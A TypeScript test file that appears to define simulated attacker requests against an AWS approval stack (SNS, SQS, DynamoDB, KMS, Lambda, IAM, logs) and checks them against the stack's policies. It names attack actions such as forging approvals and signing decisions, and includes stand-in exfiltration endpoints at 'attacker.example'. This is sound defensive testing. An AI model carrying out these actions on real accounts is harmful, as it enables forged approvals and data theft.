/**
 * Part A's cases: what an attacker with PowerUserAccess (or a compromised function or channel role)
 * asks AWS to do to the stack's resources, each evaluated against the synthesized template's
 * policies. `residual` marks what the trust boundary says only the SCP stops (Lambda's resource
 * policies cannot deny): without the SCP those succeed, and that list is the documented residual risk.
 */
import { serviceRequest } from './attacker';
import {
  appliedEventsBus,
  byAttacker,
  chatbotReadsLogs,
  decisionKey,
  functionRoles,
  linkKey,
  MissingDefence,
  roleRequest,
  type ResourceAttack,
} from './attack-targets';
import { ACCOUNT, REGION } from './stack-under-attack';

const FORGED_RULE_ARN = `arn:aws:events:${REGION}:${ACCOUNT}:rule/attacker-input-transformer`;

// ---------------------------------------------------------------- the cases

const FORGED_APPROVED_ITEM_KEYS = ['pk', 'sk', 'status', 'proposal', 'decision', 'history'];

export const RESOURCE_ATTACKS: ResourceAttack[] = [
  {
    name: 'subscribe an https endpoint of their own to the topic and receive every review link (sns:Subscribe)',
    finding: 6,
    prepare: (stack) =>
      byAttacker('sns:Subscribe', stack.targetOf(stack.remediation.topic), {
        'sns:Protocol': 'https',
        'sns:Endpoint': 'https://attacker.example/collect',
      }),
  },
  {
    name: 'subscribe an email address of their own to the topic (sns:Subscribe)',
    finding: 6,
    prepare: (stack) =>
      byAttacker('sns:Subscribe', stack.targetOf(stack.remediation.topic), {
        'sns:Protocol': 'email',
        'sns:Endpoint': 'mallory@attacker.example',
      }),
  },
  {
    name: 'publish a fake proposal message to the channel (sns:Publish)',
    finding: 6,
    prepare: (stack) => byAttacker('sns:Publish', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: "rewrite the topic's policy (sns:SetTopicAttributes)",
    finding: 6,
    prepare: (stack) => byAttacker('sns:SetTopicAttributes', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: "add a statement to the topic's policy (sns:AddPermission)",
    finding: 6,
    prepare: (stack) => byAttacker('sns:AddPermission', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: 'deliver a forged denial to the routing queue from their own rule with an InputTransformer (sqs:SendMessage as events.amazonaws.com)',
    finding: 4,
    prepare: (stack) => {
      const target = stack.targetOf(stack.remediation.queue);
      return {
        request: serviceRequest('events.amazonaws.com', 'sqs:SendMessage', target.arn, FORGED_RULE_ARN),
        identityPolicies: [],
        target,
      };
    },
  },
  {
    name: 'send a forged denial to the routing queue directly (sqs:SendMessage)',
    finding: 4,
    prepare: (stack) => byAttacker('sqs:SendMessage', stack.targetOf(stack.remediation.queue)),
  },
  {
    name: "rewrite the routing queue's policy (sqs:SetQueueAttributes)",
    finding: 4,
    prepare: (stack) => byAttacker('sqs:SetQueueAttributes', stack.targetOf(stack.remediation.queue)),
  },
  {
    name: 'put a forged approved item into the proposals table (dynamodb:PutItem)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:PutItem', stack.targetOf(stack.remediation.proposalsTable), {
        'dynamodb:Attributes': FORGED_APPROVED_ITEM_KEYS,
      }),
  },
  {
    name: 'turn a pending proposal approved in the table (dynamodb:UpdateItem)',
    finding: 2,
    prepare: (stack) => byAttacker('dynamodb:UpdateItem', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: 'delete a proposal record from the table (dynamodb:DeleteItem)',
    finding: 2,
    prepare: (stack) => byAttacker('dynamodb:DeleteItem', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: "replace the table's resource policy (dynamodb:PutResourcePolicy)",
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:PutResourcePolicy', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: "delete the table's resource policy (dynamodb:DeleteResourcePolicy)",
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:DeleteResourcePolicy', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: 'sign a forged decision with the decision key (kms:Sign)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('kms:Sign', decisionKey(stack), {
        'kms:SigningAlgorithm': 'ECDSA_SHA_256',
        'kms:MessageType': 'RAW',
      }),
  },
  {
    name: 'grant themselves kms:Sign on the decision key (kms:CreateGrant)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('kms:CreateGrant', decisionKey(stack), {
        'kms:GrantOperations': ['Sign'],
        'kms:GranteePrincipal': `arn:aws:iam::${ACCOUNT}:role/developer`,
      }),
  },
  {
    name: "rewrite the decision key's policy (kms:PutKeyPolicy)",
    finding: 2,
    prepare: (stack) => byAttacker('kms:PutKeyPolicy', decisionKey(stack)),
  },
  {
    name: 'mint a review-link token with the link key (kms:GenerateMac, or the secret read)',
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:GenerateMac', link.target, { 'kms:MacAlgorithm': 'HMAC_SHA_256' })
        : byAttacker('secretsmanager:GetSecretValue', link.target);
    },
  },
  {
    name: 'check guessed review-link tokens with the link key (kms:VerifyMac, or the secret overwritten)',
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:VerifyMac', link.target, { 'kms:MacAlgorithm': 'HMAC_SHA_256' })
        : byAttacker('secretsmanager:PutSecretValue', link.target);
    },
  },
  {
    name: "rewrite the link key's policy (kms:PutKeyPolicy, or secretsmanager:PutResourcePolicy)",
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:PutKeyPolicy', link.target)
        : byAttacker('secretsmanager:PutResourcePolicy', link.target);
    },
  },
  {
    name: "rewrite the queues' and topic's data key policy (kms:PutKeyPolicy)",
    finding: 4,
    prepare: (stack) => byAttacker('kms:PutKeyPolicy', stack.targetOf(stack.remediation.key)),
  },
  {
    name: 'put a forged "Proposal Applied" event on the bus automation listens to (events:PutEvents)',
    finding: 10,
    prepare: (stack) =>
      byAttacker('events:PutEvents', appliedEventsBus(stack), {
        'events:source': 'passrole-doctor',
        'events:detail-type': 'Proposal Applied',
      }),
  },
  // events:PutPermission and RemovePermission have no resource type (IAM authorizes them on "*"): the
  // bus's own policy is never consulted, so only the SCP can stop a rewrite of it.
  ...['PutPermission', 'RemovePermission'].map((action): ResourceAttack => ({
    name: `replace or remove the statements of the stack's event bus policy (events:${action})`,
    finding: 10,
    residual: true,
    prepare: (stack) => {
      const bus = appliedEventsBus(stack);
      return byAttacker(`events:${action}`, { ...bus, arn: '*', policy: undefined });
    },
  })),
  {
    name: 'invoke the approval function directly with a made-up authorizer context (lambda:InvokeFunction)',
    finding: 1,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:InvokeFunction', stack.targetOf(stack.remediation.approvalFunction)),
  },
  {
    name: 'invoke the apply function directly with a proposal id of their choosing (lambda:InvokeFunction)',
    finding: 2,
    residual: true,
    prepare: (stack) => byAttacker('lambda:InvokeFunction', stack.targetOf(stack.remediation.applyFunction)),
  },
  {
    name: "replace the apply function's code (lambda:UpdateFunctionCode)",
    finding: 5,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:UpdateFunctionCode', stack.targetOf(stack.remediation.applyFunction)),
  },
  {
    name: "change the approval function's settings, e.g. APPROVERS (lambda:UpdateFunctionConfiguration)",
    finding: 1,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:UpdateFunctionConfiguration', stack.targetOf(stack.remediation.approvalFunction)),
  },
  {
    name: 'assume the apply role (sts:AssumeRole)',
    finding: 5,
    prepare: (stack) => {
      const role = stack.remediation.applyFunctionRole;
      return byAttacker('sts:AssumeRole', stack.targetOf(role));
    },
  },
  {
    name: 'add a policy to the apply role (iam:PutRolePolicy)',
    finding: 5,
    prepare: (stack) => byAttacker('iam:PutRolePolicy', stack.targetOf(stack.remediation.applyFunctionRole)),
  },
  {
    name: "read the functions' logs through the Chatbot channel role (logs:FilterLogEvents)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:FilterLogEvents'),
  },
  {
    name: "read the functions' logs through the Chatbot channel role (logs:GetLogEvents)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:GetLogEvents'),
  },
  {
    name: "query the functions' logs through the Chatbot channel role (logs:StartQuery)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:StartQuery'),
  },
  ...['DeleteItem', 'BatchWriteItem', 'Scan'].flatMap((action) =>
    ['diagnose', 'approval', 'apply', 'reconcile'].map((functionName): ResourceAttack => ({
      name: `use the ${functionName} function's role to call dynamodb:${action} on the proposals table`,
      finding: 11,
      prepare: (stack) => {
        const entry = functionRoles(stack).find((candidate) => candidate.name === functionName);
        if (entry === undefined) throw new Error(`no ${functionName} role`);
        return roleRequest(
          stack,
          entry.role,
          `dynamodb:${action}`,
          stack.targetOf(stack.remediation.proposalsTable),
        );
      },
    })),
  ),
  ...['diagnose', 'apply', 'reconcile'].map((functionName): ResourceAttack => ({
    name: `use the ${functionName} function's role to sign a decision (kms:Sign)`,
    finding: 2,
    prepare: (stack) => {
      const entry = functionRoles(stack).find((candidate) => candidate.name === functionName);
      if (entry === undefined) throw new Error(`no ${functionName} role`);
      return roleRequest(stack, entry.role, 'kms:Sign', decisionKey(stack), {
        'kms:SigningAlgorithm': 'ECDSA_SHA_256',
        'kms:MessageType': 'RAW',
      });
    },
  })),
  {
    name: "use the approval function's role to mint a review-link token (kms:GenerateMac)",
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      if (link.kind !== 'hmac-key')
        throw new MissingDefence('no HMAC_256 link key: the link key is a readable secret');
      return roleRequest(stack, stack.remediation.approvalFunctionRole, 'kms:GenerateMac', link.target, {
        'kms:MacAlgorithm': 'HMAC_SHA_256',
      });
    },
  },
];
